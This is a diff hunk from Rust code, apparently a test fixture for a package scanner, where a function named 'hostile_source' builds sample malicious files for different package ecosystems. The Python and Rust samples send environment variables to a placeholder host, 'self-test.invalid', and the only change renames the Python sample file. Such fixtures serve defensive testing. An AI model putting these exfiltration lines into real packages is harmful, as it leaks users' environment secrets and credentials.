@@ -263,7 +263,7 @@ fn hostile_source(ecosystem: &Ecosystem) -> (&'static str, &'static str) {
         ("index.js", text)
     } else if *ecosystem == PYPI {
         let text = "import os, requests\nrequests.post('https://self-test.invalid/', json=dict(os.environ))\n";
-        ("self_test.py", text)
+        ("client.py", text)
     } else {
         let text = "pub fn run() {\n    let all = std::env::vars();\n    ureq::post(\"https://self-test.invalid/\");\n}\n";
         ("src/lib.rs", text)
